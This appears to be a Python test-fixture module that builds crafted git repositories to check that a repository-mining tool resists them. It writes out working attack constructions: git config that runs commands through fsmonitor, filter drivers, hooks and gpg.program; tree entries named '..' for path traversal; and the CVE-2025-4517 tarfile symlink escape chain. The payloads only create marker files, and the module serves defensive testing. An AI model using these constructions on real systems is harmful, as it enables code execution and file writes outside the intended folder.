"""Repositories crafted against `scylla cases mine` (built on `mining_repo`'s calc history): a
configuration that runs commands during git's own porcelain, a tree entry named `..`, and the
symlink chain of CVE-2025-4517 that tarfile's `data` filter lets out of the folder on Pythons
before 3.11.13, 3.12.11 and 3.13.4. Trees no porcelain would make are written as raw objects
(`git hash-object -t tree --literally`)."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

from .mining_repo import ENV, commit, git

FIX = "def add(a, b):\n    return a + b\n\n\ndef sub(a, b):\n    return a - b\n"
TEST = "from calc.ops import sub\n\n\ndef test_sub():\n    assert sub(5, 3) == 2\n"
MARKERS = ("fsmonitor", "clean", "smudge", "hook", "gpg")


def raw(repo: Path, kind: str, data: bytes) -> str:
    """An object written as given (no check of its form), its id."""
    done = subprocess.run(
        ["git", "hash-object", "-t", kind, "--literally", "-w", "--stdin"],
        cwd=repo,
        input=data,
        capture_output=True,
        env={**os.environ, **ENV},
        check=True,
    )
    return done.stdout.decode().strip()


def tree(repo: Path, entries: list[tuple[str, str, str]]) -> str:
    """A tree object of (mode, name, object id) entries, in the order given."""
    return raw(
        repo, "tree", b"".join(f"{m} {n}\0".encode() + bytes.fromhex(o) for m, n, o in entries)
    )


def entries_of(repo: Path, treeish: str) -> list[tuple[str, str, str]]:
    """The (mode, name, id) entries of one tree (not recursive)."""
    found = []
    for line in git(repo, "ls-tree", "-z", treeish).split("\0"):
        if line:
            meta, _, name = line.partition("\t")
            mode, _, oid = meta.split()
            found.append((mode, name, oid))
    return found


def blob(repo: Path, text: str) -> str:
    return raw(repo, "blob", text.encode())


def commit_tree(repo: Path, root: str, message: str) -> str:
    """A commit of `root` on top of HEAD, made the branch's head."""
    sha = git(repo, "commit-tree", root, "-p", "HEAD", "-m", message)
    git(repo, "update-ref", "refs/heads/main", sha)
    return sha


def candidate(repo: Path) -> str:
    """A plain candidate commit (a source fix with its test) on top of HEAD."""
    return commit(repo, "Fix sub", {"calc/ops.py": FIX, "tests/test_sub.py": TEST})


def dotdot(repo: Path, depth: int = 3) -> tuple[str, str]:
    """A candidate commit whose `tests` tree also holds `..` in `..` … (`depth` times) holding
    a test file: git lists it as `tests/../../../test_pwned.py` (depth 3) and serves its
    content; (the commit, that path)."""
    sha = candidate(repo)
    inner = tree(repo, [("100644", "test_pwned.py", blob(repo, "PWNED = True\n"))])
    for _ in range(depth - 1):
        inner = tree(repo, [("40000", "..", inner)])
    tests = tree(repo, [("40000", "..", inner), *entries_of(repo, f"{sha}:tests")])
    root = [(m, n, tests if n == "tests" else o) for m, n, o in entries_of(repo, sha)]
    git(repo, "reset", "-q", "--soft", "HEAD~1")
    made = commit_tree(repo, tree(repo, root), "Fix sub")
    after(repo)
    return made, "tests/" + "../" * depth + "test_pwned.py"


def tar_chain(repo: Path, dest: Path) -> str:
    """A candidate commit whose tree, put through `git archive` and extracted into `dest` by
    tarfile's `data` filter, writes `newfile` beside `dest` on an unpatched Python: the
    symlink chain of CPython's test for CVE-2025-4517 (links whose expansion passes PATH_MAX,
    where `os.path.realpath` stops resolving), as git tree entries; a link and a folder of the
    same name stand for the tar members that go through links."""
    sha = candidate(repo)
    steps = "abcdefghijklmnop"
    width = (os.pathconf(dest.parent, "PC_PATH_MAX") - len(str(dest)) - 1) // (len(steps) + 1)
    comp = "d" * width
    level = tree(repo, [("100644", "keep", blob(repo, ""))])  # the innermost folder; each one
    # out holds it and a link to it
    for step in reversed(steps[1:]):
        level = tree(repo, [("40000", comp, level), ("120000", step, blob(repo, comp))])
    leaf = "l" * 254
    through = tree(repo, [("120000", leaf, blob(repo, "/".join([".."] * len(steps))))])
    for step in reversed(steps[1:]):
        through = tree(repo, [("40000", step, through)])
    escape = "/".join([*steps, leaf, ".."])
    newfile = tree(repo, [("100644", "newfile", blob(repo, "new"))])
    root = [
        ("40000", comp, level),
        ("120000", "a", blob(repo, comp)),
        ("40000", "a", through),
        ("120000", "escape", blob(repo, escape)),
        ("40000", "escape", newfile),
        *entries_of(repo, sha),
    ]
    git(repo, "reset", "-q", "--soft", "HEAD~1")
    made = commit_tree(repo, tree(repo, root), "Fix sub")
    after(repo)
    return made


def after(repo: Path) -> str:
    """A plain commit on top of a crafted one: the work tree (the crafted commit without what
    git would not check out) is clean again, and the crafted commit is history."""
    return commit(repo, "Note the fix", {"NOTES.md": "sub fixed\n"})


def tarfile_unpatched() -> bool:
    """Whether this Python's tarfile `data` filter lacks the fix of CVE-2025-4517."""
    fixed = {(3, 11): 13, (3, 12): 11, (3, 13): 4}
    major = sys.version_info[:2]
    return major < (3, 14) and sys.version_info[2] < fixed.get(major, 0)


def configured(repo: Path, markers: Path) -> dict[str, Path]:
    """The repository's own configuration set to run a command wherever git lets it: its
    fsmonitor (from an included file), a filter driver's clean and smudge commands (named by a
    committed `.gitattributes`), a post-index-change hook (core.hooksPath) and gpg.program
    (log.showSignature, HEAD signed). Each command leaves a file in `markers`: {name: file}."""
    commit(repo, "Filter everything", {".gitattributes": "* filter=evil\n"})
    candidate(repo)
    git(repo, "update-ref", "refs/heads/main", raw(repo, "commit", _signed(repo).encode()))
    markers.mkdir(parents=True, exist_ok=True)
    found = {}
    for name in MARKERS:
        found[name] = markers / name
        script = markers / f"{name}.sh"
        script.write_text(f"#!/bin/sh\ntouch {found[name]}\ncat\n")
        script.chmod(0o755)
    (markers / "hooks").mkdir(exist_ok=True)
    (markers / "hooks" / "post-index-change").symlink_to(markers / "hook.sh")
    (repo / ".git" / "extra.config").write_text(f"[core]\n\tfsmonitor = {markers}/fsmonitor.sh\n")
    for key, value in {
        "include.path": "extra.config",
        "filter.evil.clean": f"{markers}/clean.sh",
        "filter.evil.smudge": f"{markers}/smudge.sh",
        "core.hooksPath": f"{markers}/hooks",
        "log.showSignature": "true",
        "gpg.program": f"{markers}/gpg.sh",
    }.items():
        git(repo, "config", key, value)
    return found


def _signed(repo: Path) -> str:
    """HEAD's commit object with a (bogus) signature header after its committer line."""
    lines = git(repo, "cat-file", "commit", "HEAD").split("\n")
    at = next(i for i, line in enumerate(lines) if line.startswith("committer "))
    signature = ["gpgsig -----BEGIN PGP SIGNATURE-----", " ", " iQ", " -----END PGP SIGNATURE-----"]
    return "\n".join([*lines[: at + 1], *signature, *lines[at + 1 :]]) + "\n"


def porcelain(repo: Path) -> None:
    """What mining ran in the repository before issue 44 (`git status` after a file's time
    changed, `git archive`, `git show`), with no configuration but the repository's own."""
    (repo / "calc" / "ops.py").touch()
    for args in (
        ["status", "--porcelain", "--untracked-files=no"],
        ["archive", "--format=tar", "HEAD"],
        ["show", "-s", "--format=%B", "HEAD"],
    ):
        subprocess.run(
            ["git", *args], cwd=repo, env={**os.environ, **ENV}, capture_output=True, check=False
        )
